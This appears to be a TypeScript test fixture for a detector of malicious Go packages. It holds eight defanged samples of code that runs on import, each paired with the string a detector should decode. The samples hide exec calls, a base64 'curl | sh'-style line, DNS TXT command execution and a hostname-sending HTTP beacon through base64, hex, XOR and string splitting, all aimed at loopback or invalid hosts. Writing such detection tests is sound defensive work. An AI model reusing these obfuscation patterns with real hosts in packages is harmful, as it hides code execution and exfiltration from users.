/**
 * Harmless re-enactments of what real look-alikes ran on import. Each would run `true` or ask loopback; none is ever
 * compiled or run here. Bodies hold one statement a line, so that they can also be written in one line.
 */
export interface Shape {
  name: string
  imports: readonly string[]
  /** Package-level declarations that the body needs. */
  declarations: string
  /** Statements that do it. */
  body: string
  /** Further files of the package, by name; PACKAGE stands for its name. */
  files?: Readonly<Record<string, string>>
  /** Another module that its go.mod requires, with files by name. */
  requires?: { module: string; files: Readonly<Record<string, string>> }
  /** Text in the line that the finding must quote. */
  quote: string
  /** String that folding must produce. */
  folded: string
}

export const SHAPES: readonly Shape[] = [
  {
    name: 'index array',
    imports: ['os/exec'],
    declarations: 'var qzTab = []string{"/", "b", "t", "u", "s", "h", "e", "i", "n", "-", "c", "r"}',
    body: `qzv := qzTab[0] + qzTab[1] + qzTab[7] + qzTab[8] + qzTab[0] + qzTab[4] + qzTab[5]
_ = exec.Command(qzv, qzTab[9]+qzTab[10], qzTab[2]+qzTab[11]+qzTab[3]+qzTab[6]).Start()`,
    quote: 'exec.Command(qzv',
    folded: '/bin/sh -c true',
  },
  {
    name: 'byte arithmetic',
    imports: ['os/exec'],
    declarations: '',
    body: `qzn := []byte{50 - 3, 96 + 2, 35 * 3, 220 / 2, 47, 230 >> 1, 52 << 1}
_ = exec.Command(string(qzn), string([]byte{45, 99}), string([]byte{0x74, 0x71 + 1, 117, 0x65})).Start()`,
    quote: 'exec.Command(string(qzn)',
    folded: '/bin/sh -c true',
  },
  {
    name: 'base64',
    imports: ['encoding/base64', 'os/exec'],
    declarations: '',
    body: `qzt, _ := base64.StdEncoding.DecodeString("Y3VybCAtcyBodHRwOi8vMTI3LjAuMC4xOjkvYSB8IHRydWU=")
_ = exec.Command("/bin/sh", "-c", string(qzt)).Start()`,
    quote: 'exec.Command("/bin/sh"',
    folded: 'curl -s http://127.0.0.1:9/a | true',
  },
  {
    name: 'hex',
    imports: ['encoding/hex', 'os/exec'],
    declarations: '',
    body: `qzp, _ := hex.DecodeString("2f62696e2f74727565")
go func() { _ = exec.Command(string(qzp)).Run() }()`,
    quote: 'exec.Command(string(qzp))',
    folded: '/bin/true',
  },
  {
    name: 'XOR',
    imports: ['os/exec'],
    declarations:
      'const qzMask = 0x5a\n\nvar qzBytes = []byte{0x75, 0x38, 0x33, 0x34, 0x75, 0x2e, 0x28, 0x2f, 0x3f}',
    body: `qzo := make([]byte, len(qzBytes))
for qzi, qzb := range qzBytes { qzo[qzi] = qzb ^ qzMask }
_ = exec.Command(string(qzo)).Run()`,
    quote: 'exec.Command(string(qzo))',
    folded: '/bin/true',
  },
  {
    name: 'concatenation',
    imports: ['net/http', 'os/exec'],
    declarations: 'const qzHost = "12" + "7.0" + ".0." + "1:9"',
    body: `qzu := "ht" + "tp" + ":/" + "/" + qzHost + "/st" + "or" + "age"
if qza, qze := http.Get(qzu); qze == nil { _ = qza.Body.Close(); _ = exec.Command("tr" + "ue").Start() }`,
    quote: 'http.Get(qzu)',
    folded: 'http://127.0.0.1:9/storage',
  },
  {
    name: 'DNS TXT + exec',
    imports: ['net', 'os/exec', 'strings'],
    declarations: '',
    body: `qzr, _ := net.LookupTXT(strings.Join([]string{"cfg", "localhost", "invalid"}, "."))
for _, qzc := range qzr { _ = exec.Command("sh", "-c", qzc).Run() }`,
    quote: 'net.LookupTXT(',
    folded: 'cfg.localhost.invalid',
  },
  {
    name: 'host beacon',
    imports: ['net/http', 'os', 'strings'],
    declarations: '',
    body: `qzh, _ := os.Hostname()
qzq, _ := http.NewRequest("POST", strings.ReplaceAll("h*ttp:*//12*7.0.0.1:*9/b", "*", ""), strings.NewReader(qzh))
_, _ = (&http.Client{}).Do(qzq)`,
    quote: 'http.NewRequest("POST"',
    folded: 'http://127.0.0.1:9/b',
  },
]
